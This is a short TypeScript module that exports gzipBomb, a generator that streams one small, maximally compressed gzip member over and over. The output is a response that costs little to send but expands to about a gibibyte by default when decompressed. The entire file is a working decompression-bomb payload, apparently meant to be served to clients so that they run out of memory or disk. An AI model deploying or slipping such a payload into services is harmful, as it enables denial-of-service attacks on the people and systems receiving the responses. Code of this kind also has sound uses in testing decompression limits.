/** A compressed answer that is small on the wire and endless when unpacked. */
import { gzipSync } from 'node:zlib'

const MEMBER_BYTES = 1024 * 1024
const GIBIBYTE = 1024 ** 3

/** Endless pings in very little gzip: one small member repeated, so that it costs nothing to make. */
export function* gzipBomb(ping: string, bytes: number = GIBIBYTE): Generator<Uint8Array> {
  const pings = Math.ceil(Math.min(bytes, MEMBER_BYTES) / Buffer.byteLength(ping))
  const member = gzipSync(ping.repeat(pings), { level: 9 })
  const memberBytes = pings * Buffer.byteLength(ping)
  for (let sent = 0; sent < bytes; sent += memberBytes) yield member
}
